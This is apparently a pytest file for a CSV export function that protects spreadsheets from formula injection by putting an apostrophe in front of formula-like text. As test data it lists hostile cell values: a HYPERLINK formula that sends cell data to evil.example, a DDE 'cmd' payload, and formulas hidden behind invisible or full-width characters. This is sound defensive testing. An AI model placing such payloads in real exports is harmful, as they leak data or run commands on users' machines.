"""CSV for spreadsheets (annotate/domain/exports/spreadsheet.py): a text a spreadsheet would read
as a formula gets a leading apostrophe; other values, and numbers, are written as they are."""

from __future__ import annotations

import pandas as pd

from annotate.domain.exports.spreadsheet import inert_csv, spreadsheet_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


def test_formula_texts_get_an_apostrophe_and_the_rest_stays(tmp_path):
    frame = pd.DataFrame(
        {
            "text": [*HOSTILE, "plain words", "a = b"],
            "score": [-2, 1, 2, 3, 4, 5, -1, 0],  # numbers, negative ones too, are not text
        }
    )
    path = tmp_path / "out.csv"
    text = spreadsheet_csv(frame, path)
    assert path.read_bytes().decode("utf-8") == text
    back = pd.read_csv(path, keep_default_na=False)  # "\rCR" stays in its cell (CRLF rows)
    assert list(back["text"]) == [*("'" + h for h in HOSTILE), "plain words", "a = b"]
    assert list(back["score"]) == [-2, 1, 2, 3, 4, 5, -1, 0]
    assert frame["text"].iloc[0].startswith("=")  # the frame itself is left as it was


# A formula after leading whitespace or control characters: spreadsheets drop those on import
# (LibreOffice's "Trim spaces", Google Sheets), leaving the formula live (issue 32).
BEHIND_BLANKS = [
    " =1+1",
    "\t=1+1",
    "\n=1+1",
    "\r\n+1+1",
    "\x00@SUM(A1:A2)",
    "\u200b=1+1",  # zero-width space
    "\ufeff-2+3",  # byte order mark
    "\u00a0\u3000=1+1",  # no-break and ideographic spaces
    "\x0b\x0c=1",
    "\uff1dSUM(A1)",  # full-width equals sign
    "-2+3+cmd|' /C calc'!A0",
]
STAYS = ["plain words", " words after a space", "a = b", "1-2", "", "   ", "'=already text"]


def test_a_formula_behind_leading_blanks_or_controls_gets_an_apostrophe(tmp_path):
    texts = [*BEHIND_BLANKS, *STAYS]
    frame = pd.DataFrame({"text": texts, "n": range(len(texts))})  # (no blank line)
    path = tmp_path / "out.csv"
    spreadsheet_csv(frame, path)
    back = pd.read_csv(path, keep_default_na=False, dtype=str)
    assert list(back["text"]) == [*("'" + h for h in BEHIND_BLANKS), *STAYS]


def test_rows_of_plain_values_are_written_inert_with_crlf():
    text = inert_csv(["id", "=name"], [["\t=cmd", 3], [" +1", -2]])
    assert text == "id,'=name\r\n'\t=cmd,3\r\n' +1,-2\r\n"
